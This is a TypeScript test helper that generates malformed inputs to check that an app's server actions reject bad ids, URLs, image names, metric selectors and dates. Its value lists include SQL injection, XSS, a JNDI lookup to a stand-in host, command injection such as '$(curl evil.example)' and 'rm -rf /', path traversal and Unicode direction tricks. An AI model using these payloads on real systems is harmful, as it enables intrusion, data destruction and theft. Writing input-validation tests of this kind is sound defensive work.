// The demo history's generator: seeded, so a failing input reproduces on every machine.
import { seededRandom } from "@/lib/seed/demo-history";

/*
 * Malformed input, generated deterministically: every value here is wrong for the field it is put
 * in (a wrong type, a string the field's grammar refuses, a trick hidden in otherwise good text, an
 * id of a row of another kind), so an entry point must refuse it with a message and store nothing.
 * Values that are merely unusual but valid for the field (SQL in a note is just a note) are not
 * here: they would be stored, rightly.
 */

export type FieldKind =
  | "id"
  | "text"
  | "enum"
  | "int"
  | "bool"
  | "url"
  | "image"
  | "selector"
  | "metric"
  | "label"
  | "numberText"
  | "steps"
  | "day"
  | "instant"
  | "timeZone"
  | "weekdays"
  | "links";

export interface FieldSpec {
  kind: FieldKind;
  /** Absent is fine (and for text: empty is fine unless min says otherwise). */
  optional?: boolean;
  min?: number;
  max?: number;
  /** More wrong values for this field (an enum's near misses: "ADMIN" where only approvers sign). */
  also?: readonly unknown[];
}

export interface MalformedCase {
  /** What is wrong, for the failure message: "releaseId = \"' OR '1'='1\"". */
  what: string;
  input: unknown;
}

/** Invisible or direction-changing characters: a name that reads as one thing and is another. */
export const UNICODE_TRICKS = [
  "\u202E", // right-to-left override
  "\u202D", // left-to-right override
  "\u2066", // left-to-right isolate
  "\u2067", // right-to-left isolate
  "\u2069", // pop directional isolate
  "\u200B", // zero-width space
  "\u200C", // zero-width non-joiner
  "\u2060", // word joiner
  "\uFEFF", // byte order mark
] as const;

const huge = (n: number) => "x".repeat(n);

/** Not a string at all, in every shape a server action's transport can carry. */
export const NOT_STRINGS: readonly unknown[] = [
  0,
  -1,
  1.5,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  true,
  false,
  null,
  [],
  ["x"],
  {},
  { $ne: null },
  new Date(0),
  10n,
  new Map([["a", "b"]]),
  new Set(["a"]),
];

const ID_STRINGS = [
  "",
  "   ",
  "a".repeat(65),
  huge(100_000),
  "' OR '1'='1",
  "1; DROP TABLE releases; --",
  "x' UNION SELECT password FROM users --",
  "abc\u0000def",
  "ab\u200Bcd",
  "\u202Eabcdef",
  "\u0430bcdef", // Cyrillic а
  "../../etc/passwd",
  "%27%20OR%201%3D1",
  "abc def",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "*",
  'up{job="x"} or vector(1)',
];

const TEXT_TRICKS = (min: number) => {
  const pad = (s: string) => (s.length >= min ? s : s + " and more words".repeat(Math.ceil(min / 10)));
  return [
    pad("<script>alert(1)</script>"),
    pad("<img src=x onerror=alert(1)>"),
    pad("</textarea><svg onload=alert(1)>"),
    pad("Fine <b>bold</b> words"),
    pad("nul\u0000 in the middle"),
    pad("bell\u0007 rings"),
    pad("escape \u001b[31m red"),
    pad("Looks fine \u202Egnp.exe"),
    pad("Text \u2066hidden\u2069 here"),
    pad("Zero\u200Bwidth\u200Bspaces"),
    pad("Byte order\uFEFFmark inside"),
    pad("Broken \uD800 surrogate"),
  ];
};

const URL_STRINGS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(document.cookie)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "//evil.example/x",
  "not a url",
  "http://",
  "ftp://example.com/file",
  `https://example.com/${"a".repeat(3000)}`,
  "https://exa\u202Emple.com",
  "https://example.com\u0000.evil.example",
];

const IMAGE_STRINGS = [
  "",
  "   ",
  "nginx",
  "nginx:latest; rm -rf /",
  "$(curl evil.example)",
  "`id`:1",
  "Ghcr.io/Acme/App:1",
  "ghcr.io/acme/app:",
  "ghcr.io/acme/app@sha256:123",
  "ghcr.io/acme/app:tag with space",
  `ghcr.io/acme/app:${"t".repeat(200)}`,
  "a".repeat(600),
  "../../etc/passwd:1",
  "http://registry.example/app:1",
  "ghcr.io/acme/app:1\u202E",
  "ghcr.io/acme/app:1\u200B",
  "ghcr.io/acme/\u0430pp:1",
  "ghcr.io/acme/app:1\nmalicious",
  "<script>:1",
  "' OR 1=1 --:1",
];

const SELECTOR_STRINGS = [
  'app="x"} or vector(1) #',
  'app="x"}[5m]) or vector(1',
  '{app="x"}',
  'app="x",',
  "app=x",
  'app="x\\"',
  "app",
  '"app"="x"',
  'app="x" or up',
  "sum(rate(http_requests_total[5m]))",
  "app='x'",
  'app="x"\nenv="y"',
  'app="x\u0000"',
  'app="x",' + 'b="y",'.repeat(100),
  "1 == 1",
  '<script>="x"',
  'app="x"; drop table service_targets',
];

const METRIC_STRINGS = [
  "up or vector(1)",
  'http_requests_total{a="b"}',
  "rate(x[5m])",
  "9metric",
  "metric-name",
  "metric name",
  huge(201),
  "metric\u200B",
  "m\u00e9trique",
  "<script>",
  "x; drop table releases",
];

const LABEL_STRINGS = ["code status", "9code", "code-1", 'code"}', huge(101), "c\u00f3de", "code\u200B", 'le=~".*"'];

const NUMBER_TEXT = [
  "abc",
  "1,5",
  "1e999",
  "-5",
  "NaN",
  "Infinity",
  "0.5%",
  "1 2",
  "99999999999",
  "--1",
  "\u0661\u0662",
];

const STEPS = [
  "5, 25, abc",
  "100",
  "50, 25, 100",
  "5, 25, 50",
  "0, 100",
  "5, 5, 100",
  "1e3",
  "",
  [5, 25, 100.5],
  [],
  ["5", "100"],
  [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 100],
  `${"1,".repeat(1000)}100`,
  [Number.NaN, 100],
];

const DAYS = ["2031-02-30", "2031-13-01", "0000-00-00", "31/01/2031", "2031-1-1", "tomorrow", "2031-01-31T00:00:00Z"];

const INSTANTS = [
  "not a date",
  "",
  "2031-13-01T00:00:00Z",
  "2031-02-30T25:61:00Z",
  "+275760-09-13T00:00:01Z",
  "-100000-01-01T00:00:00Z",
  "2031-12-24T00:00:00Z'; DROP TABLE freeze_windows; --",
];

const TIME_ZONES = ["Mars/Olympus", "UTC; DROP TABLE x", "../../etc/localtime", "", "Europe/\u202EBerlin", huge(1000)];

const WEEKDAYS = [[7], [-1], [1.5], "1,2", [1, 1, 1, 1, 1, 1, 1, 1], ["1"], [null], new Array(1000).fill(1)];

const link = { label: "Pull request", url: "https://github.com/acme/checkout/pull/1" };
const LINKS = [
  [{ label: "<b>PR</b>", url: link.url }],
  [{ label: "PR", url: "javascript:alert(1)" }],
  [{ label: "", url: link.url }],
  [{ url: link.url }],
  [{ label: "PR\u202E", url: link.url }],
  new Array(11).fill(link),
  [null],
  [link.url],
  link.url,
  { 0: link },
];

const BOOLS = ["true", "false", "", "on", 1, 0, null, [], {}, "yes"];

const ENUMS = ["", " X", "__proto__", "constructor", "toString", "valueOf", "' OR 1=1 --", huge(10_000), "<script>"];

const INTS = [0, -1, 1.5, Number.NaN, Number.POSITIVE_INFINITY, 2 ** 31, 2 ** 53, 1e308, "1", "one", -(2 ** 31) - 1];

/** Wrong values for one field of `spec`; `foreignIds` are real ids of rows of other kinds. */
export function wrongValues(spec: FieldSpec, foreignIds: readonly string[] = []): unknown[] {
  const notStrings = NOT_STRINGS;
  const min = spec.min ?? 0;
  const byKind: Record<FieldKind, () => unknown[]> = {
    id: () => [...notStrings, ...ID_STRINGS.filter((s) => !(spec.optional && s === "")), ...foreignIds],
    text: () => [
      ...notStrings,
      ...TEXT_TRICKS(min),
      ...(spec.max !== undefined ? [huge(spec.max + 1)] : []),
      huge(200_000),
      ...(min >= 1 ? ["", "   \n\t ", "\u200B".repeat(Math.max(min, 3) + 2)] : []),
      ...(min > 1 ? ["x".repeat(min - 1)] : []),
    ],
    enum: () => [...notStrings, ...ENUMS],
    int: () => [
      ...INTS,
      ...notStrings.filter((v) => typeof v !== "number"),
      ...(spec.max !== undefined ? [spec.max + 1] : []),
    ],
    bool: () => [...BOOLS, ...notStrings.filter((v) => typeof v !== "boolean" && v !== null)],
    url: () => [...notStrings.filter((v) => v !== undefined), ...URL_STRINGS],
    image: () => [...notStrings, ...IMAGE_STRINGS],
    selector: () => [...notStrings.filter((v) => v !== null), ...SELECTOR_STRINGS],
    metric: () => [...notStrings, ...METRIC_STRINGS],
    label: () => [...notStrings, ...LABEL_STRINGS],
    // Blank, null and a number in range mean "the default" or the number: not wrong.
    numberText: () => [
      ...NUMBER_TEXT,
      -1,
      1e308,
      Number.NaN,
      Number.POSITIVE_INFINITY,
      true,
      [],
      {},
      new Date(0),
      10n,
      ["1"],
    ],
    steps: () => [...STEPS, ...notStrings.filter((v) => !Array.isArray(v))],
    day: () => [...DAYS, ...notStrings.filter((v) => v !== null)],
    instant: () => [...INSTANTS, ...notStrings],
    timeZone: () => [...TIME_ZONES, ...notStrings],
    weekdays: () => [...WEEKDAYS, ...notStrings.filter((v) => !Array.isArray(v) && v !== null)],
    links: () => [...LINKS, ...notStrings.filter((v) => !Array.isArray(v))],
  };
  return [...byKind[spec.kind](), ...(spec.also ?? [])];
}

/** A short, printable rendering of a value for failure messages. */
export function describe(value: unknown): string {
  if (typeof value === "string")
    return JSON.stringify(value.length > 60 ? `${value.slice(0, 40)}…(${value.length} chars)` : value);
  if (typeof value === "bigint") return `${value}n`;
  if (typeof value === "number" && !Number.isFinite(value)) return String(value);
  if (value instanceof Map) return "Map";
  if (value instanceof Set) return "Set";
  if (value instanceof Date) return `Date(${value.getTime()})`;
  if (Array.isArray(value) && value.length > 5) return `[${value.length} items]`;
  try {
    const text = JSON.stringify(value);
    return text === undefined ? String(value) : text.length > 80 ? `${text.slice(0, 60)}…` : text;
  } catch {
    return String(value);
  }
}

/**
 * Malformed variants of a valid input: the whole input of the wrong shape; each field replaced
 * by each of its wrong values (and dropped, when required); then `random` seeded cases that
 * break two or three fields at once or hide a Unicode trick inside a field's valid string.
 */
export function malformedInputs(
  valid: Record<string, unknown>,
  fields: Record<string, FieldSpec>,
  options: { seed: number; random: number; foreignIds?: (field: string) => readonly string[] },
): MalformedCase[] {
  const cases: MalformedCase[] = [];
  const wholes: unknown[] = [
    undefined,
    null,
    "",
    "input",
    42,
    true,
    [],
    [valid],
    new Map(Object.entries(valid)),
    new Date(0),
    {},
    Object.fromEntries(Object.keys(fields).map((k) => [k, null])),
    Object.fromEntries(Object.keys(fields).map((k) => [k, [valid[k]]])),
  ];
  for (const input of wholes) cases.push({ what: `whole input ${describe(input)}`, input });

  const wrong: Record<string, unknown[]> = {};
  for (const [field, spec] of Object.entries(fields)) {
    wrong[field] = wrongValues(spec, options.foreignIds?.(field) ?? []);
    for (const value of wrong[field])
      cases.push({ what: `${field} = ${describe(value)}`, input: { ...valid, [field]: value } });
    if (!spec.optional) {
      const { [field]: _dropped, ...rest } = valid;
      cases.push({ what: `${field} missing`, input: rest });
    }
  }

  const random = seededRandom(options.seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
  const names = Object.keys(fields);
  const spliceable = names.filter((n) => typeof valid[n] === "string" && (valid[n] as string).length > 0);
  for (let i = 0; i < options.random; i++) {
    if (spliceable.length > 0 && i % 2 === 0) {
      // A valid string with an invisible or direction-changing character somewhere inside.
      const field = pick(spliceable);
      const text = valid[field] as string;
      const at = 1 + Math.floor(random() * Math.max(1, text.length - 1));
      const trick = pick(UNICODE_TRICKS);
      const value = text.slice(0, at) + trick + text.slice(at);
      cases.push({
        what: `${field} = ${describe(value)} (U+${trick.codePointAt(0)!.toString(16)} at ${at})`,
        input: { ...valid, [field]: value },
      });
    } else {
      const count = Math.min(names.length, 2 + Math.floor(random() * 2));
      const input: Record<string, unknown> = { ...valid };
      const broken: string[] = [];
      for (let j = 0; j < count; j++) {
        const field = pick(names);
        const value = pick(wrong[field]);
        input[field] = value;
        broken.push(`${field} = ${describe(value)}`);
      }
      cases.push({ what: broken.join(", "), input });
    }
  }
  return cases;
}
